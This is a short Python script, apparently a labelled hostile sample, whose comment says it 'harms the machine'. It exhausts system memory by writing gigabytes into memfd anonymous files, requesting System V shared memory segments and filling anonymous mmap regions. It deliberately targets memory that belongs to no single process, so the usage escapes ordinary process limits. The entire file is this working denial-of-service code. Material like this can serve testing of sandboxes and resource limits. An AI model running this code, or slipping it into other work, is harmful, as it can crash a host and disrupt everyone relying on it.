"""Takes memory that belongs to no process: shared, anonymous files, System V segments."""
# harms: the machine

import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
for _ in range(100):
    try:
        descriptor = os.memfd_create("hoard")
        for _ in range(100):
            os.write(descriptor, bytes(2**20))
    except OSError:
        pass
    libc.shmget(0, 2**27, 0o1600)
hoard = [mmap.mmap(-1, 2**26) for _ in range(50)]
for one in hoard:
    one.write(bytes(2**26))
